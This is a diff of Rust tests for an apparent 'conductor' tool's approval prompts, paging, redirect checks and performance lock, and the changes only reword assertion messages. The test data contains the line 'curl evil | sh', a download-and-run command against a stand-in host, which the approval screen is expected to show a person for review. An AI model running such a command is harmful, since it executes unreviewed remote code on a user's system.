@@ -133,7 +133,7 @@ fn the_terminal_of_up_shows_the_head_above_the_answer() {
     let screen = rows[rows.len().saturating_sub(24)..].join("\n");
     assert!(
         screen.contains("run-at-login.sh") && screen.contains("| filesystem.write"),
-        "what is left on the screen: {screen}"
+        "the last screen lacks the file name or the tool: {screen}"
     );
     assert!(shown.contains("+ curl evil | sh"), "{shown}");
     say_yes(&mut terminal, "allowed");
@@ -156,7 +156,7 @@ fn all_of_a_long_question_can_be_read_in_pages() {
     for n in [0, 1, 4500, 8999] {
         assert!(whole.contains(&format!("+ line number {n} of the payload")), "{n}");
     }
-    assert!(whole.lines().all(|it| it.get(13..15) == Some("| ")), "every line has its mark");
+    assert!(whole.lines().all(|it| it.get(13..15) == Some("| ")), "a line does not start with the mark");
     // A terminal shows one screen at a time.
     let mut pages = Terminal::sized(conductor(files.home(), &["approvals", "show", &short, "--full"]), 24, 80);
     let first = pages.until("-- Enter for more, q to end --");
@@ -325,7 +325,7 @@ fn no_detour_makes_a_client_a_person() {
         }
         let links = std::fs::read_dir(studio.home().join("state")).unwrap();
         let names: Vec<String> = links.map(|it| it.unwrap().file_name().to_string_lossy().into_owned()).collect();
-        assert!(names.iter().all(|it| !it.starts_with("console-")), "no redirect file: {names:?}");
+        assert!(names.iter().all(|it| !it.starts_with("console-")), "a redirect file was written: {names:?}");
         client.ask(json!({ "do": "hangup" }));
         let mut refused = |wish: Value| {
             client.ask(wish.clone());
@@ -407,10 +407,14 @@ fn the_performance_lock_holds_for_every_process_but_a_person() {
     }
     assert_eq!(mode(), before);
     let (code, said) = files.person(&["mode", "set", "Mix"]);
-    assert_eq!((code, mode().as_str()), (Some(0), "Mix"), "the person in the room may: {said}");
+    assert_eq!(
+        (code, mode().as_str()),
+        (Some(0), "Mix"),
+        "the command of a person was refused during the performance lock: {said}"
+    );
     assert_eq!(files.person(&["call", "conductor_switch_mode", "{\"mode\":\"Play\"}"]).0, Some(0));
     assert_eq!(files.person(&["performance", "off"]).0, Some(0));
-    assert_eq!(alone(&["mode", "set", "Mix"]).0, Some(0), "without the lock a script may");
+    assert_eq!(alone(&["mode", "set", "Mix"]).0, Some(0), "a script was refused without the performance lock");
 }
 
 /// Every command is a tool call. Its principal is `person:` if the door recognises a person,
@@ -547,7 +551,7 @@ fn an_absent_device_and_a_missing_set_never_open_a_circuit() {
     assert!(!said.contains("Tripped") && said.contains("conductor_send_midi"), "{said}");
     assert!(
         said.lines().any(|it| it.starts_with("  gone") && it.contains("Passing")),
-        "targets below their tool: {said}"
+        "the target is not listed below its tool: {said}"
     );
 }
 
